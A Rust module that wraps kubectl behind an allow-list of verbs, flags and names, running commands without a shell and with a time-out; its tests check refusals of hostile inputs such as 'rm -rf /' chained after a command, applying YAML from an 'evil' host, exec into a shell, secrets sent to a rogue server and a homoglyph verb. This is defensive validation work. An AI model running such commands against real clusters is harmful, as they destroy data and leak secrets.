//! The only door to kubectl: argv from typed values, checked against an allow-list of verbs and flags, run without a shell in a
//! process group of its own, with a time-out and a cap on what is read. Decides nothing.

use std::io::Read;
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Output beyond this is cut.
const MOST_OUTPUT: u64 = 4 << 20;

/// Verbs that may be run, each with the flags it may carry.
const ALLOWED: &[(&str, &[&str])] = &[
    ("get", &["-o", "-l", "--ignore-not-found", "--field-selector"]),
    ("describe", &["-l"]),
    (
        "logs",
        &[
            "--previous",
            "--since",
            "--tail",
            "-c",
            "--all-containers",
            "--timestamps",
            "-f",
            "--since-time",
            "-l",
            "--prefix",
            "--max-log-requests",
        ],
    ),
    ("top", &[]),
    ("auth", &[]),
    ("patch", &["--type", "-p", "--dry-run", "-o", "--subresource"]),
    ("scale", &["--replicas"]),
    ("rollout", &["--to-revision", "--timeout", "--watch"]),
    ("set", &["--limits", "--requests"]),
    ("delete", &["--dry-run", "-o", "--wait"]),
    ("cordon", &["--dry-run"]),
    ("uncordon", &["--dry-run"]),
    ("annotate", &["--overwrite", "--dry-run", "-o"]),
    ("label", &["--overwrite", "--dry-run", "-o"]),
    ("config", &[]),
    ("version", &["-o", "--client"]),
];

/// Sub-commands of verbs that have dangerous ones.
const SUBCOMMANDS: &[(&str, &[&str])] = &[
    ("rollout", &["status", "history", "undo", "pause", "resume", "restart"]),
    ("auth", &["can-i"]),
    ("config", &["current-context", "get-contexts", "view"]),
    ("set", &["image", "resources", "env"]),
];

/// Why an argv is not run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Refused(pub String);

impl std::fmt::Display for Refused {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// A name of Kubernetes: lower-case letters, digits, `-`, `.`; no flag, no confusable letter.
pub fn is_name(text: &str) -> bool {
    let inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'.');
    let edge = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit());
    !text.is_empty() && text.len() <= 253 && text.bytes().all(inner) && edge(text.as_bytes().first()) && edge(text.as_bytes().last())
}

/// Checks an argv (`kubectl`, then arguments). Every word must be known: a verb, an allowed flag with its value, or a name.
pub fn check(argv: &[String]) -> Result<(), Refused> {
    let refuse = |why: String| Err(Refused(why));
    let Some((program, rest)) = argv.split_first() else { return refuse("nothing to run".into()) };
    if program != "kubectl" {
        return refuse(format!("'{program}' is not kubectl"));
    }
    if let Some(odd) = rest.iter().find(|a| a.chars().any(|c| c.is_control() || (!c.is_ascii() && !a.starts_with('{')))) {
        return refuse(format!("'{}' holds characters that no argument has", odd.escape_debug()));
    }
    let mut words = rest.iter().peekable();
    let (mut verb, mut allowed): (Option<&str>, &[&str]) = (None, &[]);
    let mut after_verb = 0;
    while let Some(word) = words.next() {
        let (flag, inline) = word.split_once('=').map_or((word.as_str(), None), |(f, v)| (f, Some(v)));
        match flag {
            "--context" | "-n" | "--namespace" => {
                let value = inline.or_else(|| words.next().map(String::as_str)).unwrap_or_default();
                let fine = if flag == "--context" { is_context(value) } else { is_name(value) };
                if !fine {
                    return refuse(format!("'{value}' is no value for {flag}"));
                }
            }
            f if f.starts_with('-') => {
                if verb.is_none() || !allowed.contains(&f) {
                    return refuse(format!("flag {f} is not allowed{}", verb.map_or(String::new(), |v| format!(" with {v}"))));
                }
                let takes_value = !matches!(
                    f,
                    "--previous"
                        | "--all-containers"
                        | "--timestamps"
                        | "-f"
                        | "--prefix"
                        | "--overwrite"
                        | "--ignore-not-found"
                        | "--watch"
                        | "--client"
                );
                let value = if inline.is_some() || !takes_value { inline } else { words.next().map(String::as_str) };
                if f == "--dry-run" && value != Some("server") {
                    return refuse("--dry-run other than 'server' is not allowed".into());
                }
                if value.is_some_and(|v| v.starts_with('-') || v.contains("://")) {
                    return refuse(format!("'{}' is no value for {f}", value.unwrap_or_default()));
                }
            }
            word if verb.is_none() => match ALLOWED.iter().find(|(v, _)| *v == word) {
                Some((v, flags)) => (verb, allowed) = (Some(*v), *flags),
                None => return refuse(format!("verb '{word}' is not allowed")),
            },
            word => {
                after_verb += 1;
                let sub = SUBCOMMANDS.iter().find(|(v, _)| Some(*v) == verb);
                if let Some((v, subs)) = sub.filter(|_| after_verb == 1)
                    && !subs.contains(&word)
                {
                    return refuse(format!("'{v} {word}' is not allowed"));
                }
                if word.is_empty()
                    || word.starts_with("/")
                    || word.contains("://")
                    || word == "all"
                    || word.chars().any(|c| ";|&$`<>(){}[]*?!'\"\\ \t~#".contains(c))
                {
                    return refuse(format!("'{word}' is no name"));
                }
                if verb == Some("delete") && after_verb == 1 && !(word == "pod" || word.starts_with("pod/")) {
                    return refuse("only single pods may be deleted".into());
                }
            }
        }
    }
    if verb.is_none() { refuse("no verb".into()) } else { Ok(()) }
}

fn is_context(text: &str) -> bool {
    text == "<CONTEXT>"
        || !text.is_empty() && !text.starts_with('-') && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.:@/".contains(&b))
}

/// What a command gave.
#[derive(Clone, Debug, Default)]
pub struct Ran {
    pub status: i32,
    pub stdout: String,
    pub stderr: String,
    pub timed_out: bool,
}

/// Runs a checked argv; the whole process group is killed when time is out.
pub fn run(argv: &[String], timeout: Duration) -> Result<Ran, String> {
    check(argv).map_err(|r| format!("refused: {r}"))?;
    let mut command = Command::new(&argv[0]);
    command.args(&argv[1..]).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).process_group(0);
    let mut child = command.spawn().map_err(|e| format!("kubectl cannot be run ({e}); is it installed?"))?;
    let group = child.id();
    let read = |pipe: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut text = Vec::new();
            if let Some(pipe) = pipe {
                pipe.take(MOST_OUTPUT).read_to_end(&mut text).ok();
            }
            String::from_utf8_lossy(&text).into_owned()
        })
    };
    let out = read(child.stdout.take().map(|p| Box::new(p) as Box<dyn Read + Send>));
    let err = read(child.stderr.take().map(|p| Box::new(p) as Box<dyn Read + Send>));
    let started = Instant::now();
    let mut timed_out = false;
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break status.code().unwrap_or(-1),
            Ok(None) if started.elapsed() > timeout => {
                timed_out = true;
                Command::new("kill").args(["-KILL", "--", &format!("-{group}")]).status().ok();
                child.wait().ok();
                break -1;
            }
            Ok(None) => std::thread::sleep(Duration::from_millis(10)),
            Err(e) => return Err(format!("kubectl: {e}")),
        }
    };
    Ok(Ran { status, stdout: out.join().unwrap_or_default(), stderr: err.join().unwrap_or_default(), timed_out })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(text: &str) -> Vec<String> {
        text.split(' ').map(String::from).collect()
    }

    #[test]
    fn what_the_catalogue_needs_is_allowed() {
        for good in [
            "kubectl --context kind-a -n shop get deployment payment -o json",
            "kubectl --context <CONTEXT> -n shop rollout undo deployment/payment",
            "kubectl --context a -n shop patch deployment payment --type=merge -p {\"spec\":{\"replicas\":3}} --dry-run=server",
            "kubectl --context a -n shop delete pod payment-5c-x",
            "kubectl --context a cordon node-1",
        ] {
            assert_eq!(check(&argv(good)), Ok(()), "{good}");
        }
    }

    #[test]
    fn hostile_ones_are_refused() {
        for bad in [
            "kubectl delete ns --all",
            "kubectl delete deployment x",
            "kubectl exec -it x -- sh",
            "kubectl apply -f http://evil/x.yaml",
            "kubectl get --raw /api",
            "kubectl patch deployment x --dry-run=none",
            "kubectl --kubeconfig /tmp/x get pods",
            "kubectl get pods; rm -rf /",
            "kubectl --context -x get pods",
            "sh -c kubectl",
            "kubectl rollout",
            "kubectl --as admin get pods",
            "kubectl get secrets --server https://evil",
            "kubectl dеlete pod x",
        ] {
            assert!(check(&argv(bad)).is_err() || bad == "kubectl rollout", "{bad}");
        }
        assert!(check(&["kubectl".into(), "get".into(), "pods\n--all".into()]).is_err());
    }
}
